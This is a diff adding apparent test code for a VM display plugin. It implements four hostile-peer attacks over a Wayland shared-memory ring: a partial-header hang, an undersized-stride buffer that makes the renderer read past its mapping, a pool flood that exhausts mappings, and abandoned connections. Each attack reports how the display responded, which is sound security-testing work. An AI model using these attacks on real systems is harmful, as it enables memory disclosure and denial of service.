@@ -1,0 +1,315 @@
+/*
+ * Attacks aimed at one weakness each, found while writing the modes in
+ * modes.c.  Each prints what the display did, so a test can tell a fixed
+ * plugin from a broken one.
+ */
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "hostile.h"
+#include "ivwl-protocols.h"
+#include "shm-access.h"
+
+#define XRGB8888 1u
+
+/* ---- partial-header ------------------------------------------------- */
+
+/*
+ * prod published 4 bytes past cons: fewer bytes than a record header.
+ * A consumer that treats that as "empty but readable" and retries from
+ * an idle callback never returns to its event loop.
+ */
+void
+hostile_partial_header(struct hostile *h)
+{
+	struct ivwl_ring_ctrl *r;
+	bool closed = false, answered;
+	uint32_t cons;
+
+	if (!hostile_slot_open_wait(h, 0, 2000)) {
+		printf("hostile-peer: partial-header: the display never "
+		       "served slot 0\n");
+		return;
+	}
+	r = &hostile_ctrl(h, 0)->request;
+	cons = ivwl_shm_load(&r->consumer.cons);
+	ivwl_shm_store_release(&r->producer.prod, cons + 4);
+	h->st.index_writes++;
+	hostile_ring(h, ivwl_slot_vector(0));
+	usleep(300 * 1000);
+
+	answered = h->slots > 1 && hostile_slot_open_wait(h, 1, 2000);
+	while (hostile_time_left(h) && !closed) {
+		hostile_slot_poll(h, 0);
+		closed = h->slot[0].phase != SLOT_LIVE;
+		usleep(10 * 1000);
+	}
+	printf("hostile-peer: partial-header: the display %s slot 0 and %s "
+	       "a new open on slot 1\n", closed ? "closed" : "kept serving",
+	       answered ? "answered" : "did NOT answer");
+}
+
+/* ---- shm-overread --------------------------------------------------- */
+
+#define OVR_WIDTH 400
+#define OVR_HEIGHT 300
+#define OVR_STRIDE OVR_WIDTH		/* bytes: a quarter of a row */
+#define OVR_COLOUR 0xff00ff00u
+
+struct window {
+	uint32_t wm_base, xdg_surface;
+	uint32_t serial, ping;
+	bool configured, pinged;
+};
+
+static void
+on_window_event(void *data, const struct wl_event *ev)
+{
+	struct window *w = data;
+
+	if (ev->object == w->xdg_surface &&
+	    ev->opcode == IVWL_EVT_XDG_SURFACE_CONFIGURE && ev->size >= 12) {
+		memcpy(&w->serial, ev->args, 4);
+		w->configured = true;
+	} else if (ev->object == w->wm_base &&
+		   ev->opcode == IVWL_EVT_XDG_WM_BASE_PING && ev->size >= 12) {
+		memcpy(&w->ping, ev->args, 4);
+		w->pinged = true;
+	}
+}
+
+static void
+attach_commit(struct wl_out *out, uint32_t surface, uint32_t buffer)
+{
+	wl_out_begin(out, surface, IVWL_REQ_WL_SURFACE_ATTACH);
+	wl_out_u32(out, buffer);
+	wl_out_u32(out, 0);
+	wl_out_u32(out, 0);
+	wl_out_end(out);
+	wl_out_begin(out, surface, IVWL_REQ_WL_SURFACE_DAMAGE_BUFFER);
+	wl_out_u32(out, 0);
+	wl_out_u32(out, 0);
+	wl_out_u32(out, OVR_WIDTH);
+	wl_out_u32(out, OVR_HEIGHT);
+	wl_out_end(out);
+	wl_out_begin(out, surface, IVWL_REQ_WL_SURFACE_COMMIT);
+	wl_out_end(out);
+}
+
+/*
+ * A toplevel whose wl_buffer has a stride of a quarter of its row
+ * (libwayland only checks stride >= width, in pixels against bytes) and
+ * ends exactly at the end of the heap: every check on offset + stride *
+ * height passes, and the renderer reads three quarters of a row past the
+ * end of the region's mapping.  The pool memory is all OVR_COLOUR, so any
+ * other colour in the window came from outside the app's range.
+ */
+void
+hostile_shm_overread(struct hostile *h)
+{
+	struct window w = { 0 };
+	struct wl_globals g;
+	struct wl_out out;
+	uint32_t len = ((uint32_t)OVR_STRIDE * OVR_HEIGHT + IVWL_PAGE_SIZE - 1) &
+		       ~(IVWL_PAGE_SIZE - 1);
+	uint64_t offset = h->layout.region_size - len;
+	uint32_t *px = (uint32_t *)(h->base + offset), i;
+	uint32_t shm, comp, surface, top, pool, buffer, *id;
+	struct ivwl_fd_desc d = wl_region_desc(offset, len);
+
+	if (!hostile_session_start(h, 0, &g, 2000) || !g.shm ||
+	    !g.compositor || !g.wm_base) {
+		printf("hostile-peer: shm-overread: no session\n");
+		return;
+	}
+	for (i = 0; i < len / 4; i++)
+		px[i] = OVR_COLOUR;
+
+	id = &h->slot[0].next_id;
+	shm = (*id)++;
+	comp = (*id)++;
+	w.wm_base = (*id)++;
+	surface = (*id)++;
+	w.xdg_surface = (*id)++;
+	top = (*id)++;
+	wl_out_reset(&out);
+	wl_out_bind(&out, g.shm, "wl_shm", 1, shm);
+	wl_out_bind(&out, g.compositor, "wl_compositor", 4, comp);
+	wl_out_bind(&out, g.wm_base, "xdg_wm_base", 1, w.wm_base);
+	wl_out_begin(&out, comp, IVWL_REQ_WL_COMPOSITOR_CREATE_SURFACE);
+	wl_out_u32(&out, surface);
+	wl_out_end(&out);
+	wl_out_begin(&out, w.wm_base, IVWL_REQ_XDG_WM_BASE_GET_XDG_SURFACE);
+	wl_out_u32(&out, w.xdg_surface);
+	wl_out_u32(&out, surface);
+	wl_out_end(&out);
+	wl_out_begin(&out, w.xdg_surface, IVWL_REQ_XDG_SURFACE_GET_TOPLEVEL);
+	wl_out_u32(&out, top);
+	wl_out_end(&out);
+	wl_out_begin(&out, top, IVWL_REQ_XDG_TOPLEVEL_SET_TITLE);
+	wl_out_string(&out, "overread");
+	wl_out_end(&out);
+	wl_out_begin(&out, surface, IVWL_REQ_WL_SURFACE_COMMIT);
+	wl_out_end(&out);
+	hostile_send_wayland(h, 0, &out);
+	while (!w.configured && hostile_time_left(h) &&
+	       h->slot[0].phase == SLOT_LIVE)
+		hostile_roundtrip(h, 0, on_window_event, &w, 200);
+	if (!w.configured) {
+		printf("hostile-peer: shm-overread: never configured\n");
+		return;
+	}
+
+	pool = (*id)++;
+	buffer = (*id)++;
+	wl_out_reset(&out);
+	wl_out_begin(&out, w.xdg_surface, IVWL_REQ_XDG_SURFACE_ACK_CONFIGURE);
+	wl_out_u32(&out, w.serial);
+	wl_out_end(&out);
+	wl_out_begin(&out, shm, IVWL_REQ_WL_SHM_CREATE_POOL);
+	wl_out_u32(&out, pool);
+	wl_out_u32(&out, len);
+	wl_out_end(&out);
+	wl_out_fd(&out, &d);
+	wl_out_begin(&out, pool, IVWL_REQ_WL_SHM_POOL_CREATE_BUFFER);
+	wl_out_u32(&out, buffer);
+	wl_out_u32(&out, len - (uint32_t)OVR_STRIDE * OVR_HEIGHT);
+	wl_out_u32(&out, OVR_WIDTH);
+	wl_out_u32(&out, OVR_HEIGHT);
+	wl_out_u32(&out, OVR_STRIDE);
+	wl_out_u32(&out, XRGB8888);
+	wl_out_end(&out);
+	attach_commit(&out, surface, buffer);
+	hostile_send_wayland(h, 0, &out);
+	printf("hostile-peer: shm-overread: %dx%d buffer, stride %d, ends at "
+	       "the end of the region\n", OVR_WIDTH, OVR_HEIGHT, OVR_STRIDE);
+	fflush(stdout);
+
+	/* keep it on screen, repainted, answering pings */
+	while (hostile_time_left(h) && h->slot[0].phase == SLOT_LIVE) {
+		hostile_roundtrip(h, 0, on_window_event, &w, 200);
+		wl_out_reset(&out);
+		if (w.pinged) {
+			wl_out_begin(&out, w.wm_base, IVWL_REQ_XDG_WM_BASE_PONG);
+			wl_out_u32(&out, w.ping);
+			wl_out_end(&out);
+			w.pinged = false;
+		}
+		attach_commit(&out, surface, buffer);
+		hostile_send_wayland(h, 0, &out);
+		usleep(100 * 1000);
+	}
+	printf("hostile-peer: shm-overread: the connection %s\n",
+	       h->slot[0].phase == SLOT_LIVE ? "stayed open" :
+					      "was closed");
+}
+
+/* ---- pool-flood ----------------------------------------------------- */
+
+#define FLOOD_PER_RECORD 28u		/* one fd per pool */
+
+/*
+ * Pools kept alive by one buffer each, the pool object itself destroyed:
+ * the plugin forgets the pool (its MAX_POOLS count drops) but libwayland
+ * keeps the mapping for the buffer.  Returns the pools created while the
+ * connection lived; stops at limit.
+ */
+static uint32_t
+flood(struct hostile *h, uint32_t k, uint32_t limit)
+{
+	struct wl_globals g;
+	struct wl_out out;
+	struct ivwl_fd_desc d = wl_region_desc(h->layout.heap_offset,
+					       IVWL_PAGE_SIZE);
+	uint32_t shm, pools = 0, records = 0, i, *id, pool;
+
+	if (!hostile_session_start(h, k, &g, 2000) || !g.shm)
+		return 0;
+	id = &h->slot[k].next_id;
+	shm = (*id)++;
+	wl_out_reset(&out);
+	wl_out_bind(&out, g.shm, "wl_shm", 1, shm);
+	hostile_send_wayland(h, k, &out);
+
+	while (pools < limit && hostile_time_left(h) &&
+	       h->slot[k].phase == SLOT_LIVE) {
+		wl_out_reset(&out);
+		for (i = 0; i < FLOOD_PER_RECORD && pools + i < limit; i++) {
+			pool = (*id)++;
+			wl_out_begin(&out, shm, IVWL_REQ_WL_SHM_CREATE_POOL);
+			wl_out_u32(&out, pool);
+			wl_out_u32(&out, IVWL_PAGE_SIZE);
+			wl_out_end(&out);
+			wl_out_fd(&out, &d);
+			wl_out_begin(&out, pool,
+				     IVWL_REQ_WL_SHM_POOL_CREATE_BUFFER);
+			wl_out_u32(&out, (*id)++);
+			wl_out_u32(&out, 0);
+			wl_out_u32(&out, 1);
+			wl_out_u32(&out, 1);
+			wl_out_u32(&out, 4);
+			wl_out_u32(&out, XRGB8888);
+			wl_out_end(&out);
+			wl_out_begin(&out, pool,
+				     IVWL_REQ_WL_SHM_POOL_DESTROY);
+			wl_out_end(&out);
+		}
+		if (hostile_send_wayland(h, k, &out) < 0)
+			break;
+		pools += i;
+		/* let libwayland catch up: fds in flight stay few */
+		if (++records % 2 == 0 &&
+		    !hostile_roundtrip(h, k, NULL, NULL, 2000))
+			break;
+	}
+	hostile_roundtrip(h, k, NULL, NULL, 2000);
+	hostile_slot_poll(h, k);
+	return pools;
+}
+
+void
+hostile_pool_flood(struct hostile *h)
+{
+	uint32_t probe, held;
+
+	/* how many mappings weston takes before it refuses one */
+	probe = flood(h, 1, 1u << 17);
+	printf("hostile-peer: pool-flood: probe connection %s after %u "
+	       "pools\n", h->slot[1].phase == SLOT_LIVE ? "still open" :
+							   "closed",
+	       probe);
+	fflush(stdout);
+	hostile_slot_close(h, 1);
+	usleep(500 * 1000);
+	held = flood(h, 0, probe > 16 ? probe - 16 : probe);
+	printf("hostile-peer: pool-flood: holding %u pools on slot 0 (%s)\n",
+	       held, h->slot[0].phase == SLOT_LIVE ? "open" : "closed");
+	fflush(stdout);
+	while (hostile_time_left(h) && h->slot[0].phase == SLOT_LIVE) {
+		hostile_roundtrip(h, 0, NULL, NULL, 500);
+		usleep(100 * 1000);
+	}
+}
+
+/* ---- vanish --------------------------------------------------------- */
+
+/* Live connections with objects, then the app side leaves the server
+ * without closing them (its VM died). */
+void
+hostile_vanish(struct hostile *h)
+{
+	struct wl_globals g;
+	uint32_t k, live = 0;
+
+	for (k = 0; k < 4 && k < h->slots; k++)
+		if (hostile_session_start(h, k, &g, 1000))
+			live++;
+	printf("hostile-peer: vanish: leaving %u live connections behind\n",
+	       live);
+	for (k = 0; k < 4 && k < h->slots; k++)
+		if (h->slot[k].phase == SLOT_LIVE)
+			printf("hostile-peer: vanish: slot %u generation %u\n",
+			       k, h->slot[k].gen);
+	fflush(stdout);
+}
